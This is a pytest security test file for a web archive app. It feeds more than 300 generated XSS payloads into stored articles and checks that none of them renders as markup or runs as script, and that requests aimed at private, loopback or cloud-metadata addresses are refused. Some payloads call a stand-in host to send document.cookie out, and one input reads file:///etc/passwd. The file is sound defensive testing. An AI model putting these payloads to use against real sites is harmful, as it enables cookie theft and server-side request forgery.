"""Pages that mean harm: nothing of them runs, and nothing leaves the page."""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any, NamedTuple

import httpcore
import httpx
import lxml.html
import pytest
from starlette.testclient import TestClient

from onrecord.archive import Archive, open_archive
from onrecord.web import create_app

pytestmark = pytest.mark.xdist_group("browser")

CALLS = (
    "alert(1)",
    "window.pwned=1",
    "fetch('https://evil.example/')",
    "top.location='https://evil.example/'+document.cookie",
    "new Image().src='https://evil.example/'",
)
SHAPES = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}'",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    '<a href="javascript:{}">x</a>',
    '<iframe srcdoc="<script>{}</script>">',
    "<style>@import 'https://evil.example/{}'</style>",
    "</style><script>{}</script>",
    "{{{{ ''.__class__ }}}} {}",
    "{{% raw %}} {}",
    "<math><mtext><script>{}</script>",
    "<base href=https://evil.example/>{}",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<form action=https://evil.example/><input name=x value='{}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?{}'>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "\u202e{}\u202c<b>",
    "\u2066\u2067{}",
    "\x00<script>{}</script>",
    "\ud83d<script>{}</script>"[1:],
    "&lt;script&gt;{}",
    "<object data=https://evil.example/{}>",
    "<video poster=https://evil.example/{} src=x>",
    "<noscript><img src=x:{}>",
    "<template><script>{}</script></template>",
    "\\u003cscript\\u003e{}",
    "%3Cscript%3E{}%3C/script%3E",
    "<a href=vbscript:{}>x</a>",
    "</textarea><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "`${{{}}}`",
    "<img srcset='https://evil.example/ 2x' onload={}>",
    "<button formaction='javascript:{}'>x</button>",
    "<details open ontoggle={}>",
    "<body onpageshow={}>",
    "<input autofocus onfocus={}>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{}'/></svg>",
    "<svg><use href='data:image/svg+xml,<script>{}</script>'/></svg>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<div style=\"background:url('https://evil.example/{}')\">",
    'x"; }} * {{ background: url(https://evil.example/{}) }} /*',
    "<link rel=prefetch href=https://evil.example/{}>",
    "<link rel=dns-prefetch href=//evil.example/><script>{}</script>",
    "<embed src='javascript:{}'>",
    "<marquee onstart={}>",
    "<dialog open><form method=dialog><button onclick={}>x</button></form></dialog>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["https://evil.example/"]}}]}}</script>{}',
    '<script type=importmap>{{"imports":{{"./copy.js":"https://evil.example/"}}}}</script>{}',
    "<portal src=https://evil.example/{}>",
    "\u200f\u061c<script>{}</script>\u200e",
    "\ufeff<script>{}</script>",
    "https://user:{}@evil.example/",
    'https://evil.example/"><script>{}</script>',
    "https://evil.example/' onclick='{}",
    "https://evil.example/?a=1&lt;script&gt;{}",
)
INPUTS = [shape.format(call) for shape in SHAPES for call in CALLS]
assert len(INPUTS) >= 300


class Reader(NamedTuple):
    url: str
    archive: Archive


def poisoned(making: Any, text: str) -> Any:
    """An article with `text` in every place that a page or a record has for words of others."""
    return making.record(
        [
            ("title", f"T {text}"),
            ("byline", text),
            ("notice", text),
            ("heading", f"H {text}"),
            ("paragraph", f"P {text}"),
            ("caption", f"C {text}"),
            ("credit", f"K {text}"),
            ("list", f"L {text}"),
            ("quotation", f"Q {text}"),
            ("furniture", f"F {text}"),
        ],
        speakers=[{"id": "p1", "name": text, "type": "person", "title": text, "affiliation": text, "link": text}],
        statements=[
            {
                "id": "s1",
                "kind": "direct",
                "content": (f"P {text}",),
                "addressee": f"P {text}",
                "speaker": "p1",
                "cue": (f"P {text}",),
                "hedges": (f"P {text}",),
                "said_on": text,
            },
            {"id": "s2", "kind": "unattributed", "content": (f"H {text}",)},
        ],
        timeline=[{"date": text, "precision": "day", "basis": text, "kind": "event", "mentions": (f"P {text}",)}],
        pictures=[{"url": text, "alt": text, "caption": f"C {text}", "credit": f"K {text}"}],
        url=text,
        outlet=text,
        authors=(text,),
        published=text,
        published_basis="page",
        published_reason=text,
        language=text,
        source=text,
    )


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory, serving: Any) -> Reader:
    """A reader of this file's own: hundreds of hostile outlets and languages would crowd the others' filters."""
    archive = open_archive(tmp_path_factory.mktemp("hostile") / "a.sqlite")
    return Reader(serving(create_app(archive)), archive)


@pytest.fixture(scope="module")
def bad(reader: Reader, making: Any) -> list[str]:
    archive = reader.archive
    return [archive.add(poisoned(making, text), page=f"hostile:{n}").id for n, text in enumerate(INPUTS)]


def test_no_input_becomes_markup(reader: Reader, bad: list[str]) -> None:
    """Every element and attribute is one that the templates wrote: the same for all inputs."""
    allowed = {
        "script": {"src", "type"},
        "link": {"rel", "href", "type", "as", "crossorigin", "title"},
        "meta": {"charset", "name", "content", "http-equiv"},
        "form": {"class", "method", "action", "aria-label"},
    }
    with httpx.Client(base_url=reader.url, headers={"Accept": "text/html"}) as client:
        for n, id in enumerate(bad):
            paths = [f"/articles/{id}", f"/articles/{id}/statements/s1", f"/articles/{id}/report"]
            for path in paths if n % 3 == 0 else paths[:1]:
                tree: Any = lxml.html.fromstring(client.get(path).content)
                for element in tree.iter():
                    if not isinstance(element.tag, str):
                        continue
                    names = set(element.attrib)
                    assert not any(name.startswith("on") or name == "style" for name in names), (path, element.attrib)
                    assert element.tag not in ("iframe", "object", "embed", "base", "math", "video", "template"), path
                    assert names <= allowed.get(element.tag, names), (path, element.tag, names)
                    if element.tag == "script":
                        assert element.get("src", "").startswith("/static/") and not element.text
                    for name in ("href", "src", "action"):
                        value = element.get(name, "/").strip().lower()
                        assert value.startswith(("/", "#", "?", "http://evil", "https://evil", "data:,")), (path, value)
                    if element.tag in ("img", "script", "link", "source"):
                        assert not element.get("src", "").startswith("http"), (path, element.attrib)


def test_nothing_runs_and_nothing_leaves(tab: Any, reader: Reader, bad: list[str]) -> None:
    """The `tab` itself fails where a dialog opens, a script fails or another host is asked."""
    page = tab(f"{reader.url}/?limit=100")
    for id in bad[:: max(1, len(bad) // 24)]:
        page.goto(f"{reader.url}/articles/{id}")
        page.evaluate("document.querySelectorAll('a, button, summary').forEach(e => e.focus())")
        page.hover("h1")
        assert page.evaluate("window.pwned") is None
    page.goto(f"{reader.url}/search?q=%3Cscript%3Ealert(1)%3C/script%3E&outlet=%22%3E%3Cimg+src%3Dx%3E")
    page.goto(f"{reader.url}/add?url=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
    assert page.evaluate("window.pwned") is None
    assert "evil.example" not in page.evaluate("document.cookie")


def test_names_cannot_turn_what_stands_beside_them(reader: Reader, making: Any) -> None:
    text = "evil\u202egnp.exe\u2066"
    id = reader.archive.add(poisoned(making, text), page="hostile:bidi").id
    body = httpx.get(f"{reader.url}/articles/{id}").text
    assert not set(body) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


PRIVATE = """\
127.0.0.1 127.255.0.1 0.0.0.0 0.1.2.3 10.0.0.1 10.255.255.254 172.16.0.1 172.31.255.1 192.168.0.1 192.168.255.254
169.254.169.254 169.254.0.1 100.64.0.1 100.127.255.254 168.63.129.16 192.0.0.1 192.0.2.7 192.88.99.1 198.18.0.1
198.19.255.1 198.51.100.7 203.0.113.9 224.0.0.1 239.255.255.250 240.0.0.1 255.255.255.255
::1 :: ::ffff:127.0.0.1 ::ffff:10.0.0.1 ::ffff:169.254.169.254 ::127.0.0.1 64:ff9b::7f00:1 64:ff9b::a9fe:a9fe
2002:7f00:1:: 2002:a9fe:a9fe::1 2001::1 2001:db8::1 3fff::1 100::1 fc00::1 fd00:ec2::254 fe80::1 fec0::1 ff02::1
""".split()  # noqa: SIM905
SPELLED = ["0x7f.1", "2130706433", "017700000001", "127.1", "[::1]", "[::ffff:7f00:1]", "localhost", "127.0.0.1."]


def test_private_addresses_are_never_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each through "add by URL" and the real fetch, over a resolver that answers every name with it."""
    assert len(PRIVATE) + len(SPELLED) > 50
    answers: dict[str, str] = {f"n{n}.courier.example": address for n, address in enumerate(PRIVATE)}
    opened: list[str] = []

    def resolve(host: str, port: Any, *args: Any, **more: Any) -> list[Any]:
        answer = answers.get(host, "127.0.0.1")
        return [(socket.AF_INET6 if ":" in answer else socket.AF_INET, socket.SOCK_STREAM, 6, "", (answer, port))]

    def connect_tcp(self: Any, host: str, *args: Any, **more: Any) -> httpcore.NetworkStream:
        opened.append(host)
        raise httpcore.ConnectError("the test opens no socket")

    monkeypatch.setattr(httpcore.SyncBackend, "connect_tcp", connect_tcp)
    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    archive = open_archive(tmp_path / "a.sqlite")
    with TestClient(create_app(archive), base_url="http://127.0.0.1:8000") as client:
        for n, host in enumerate([*answers, *SPELLED]):
            answer = client.post("/articles", json={"url": f"http{'s' if n % 2 else ''}://{host}/story"})
            assert (answer.status_code, answer.json()["error"]["code"]) == (422, "not-public"), host
        for url in ("file:///etc/passwd", "ftp://courier.example/", "gopher://127.0.0.1/", "data:text/html,x"):
            assert client.post("/articles", json={"url": url}).status_code == 422
    assert opened == [] and archive.list().total == 0
    archive.close()
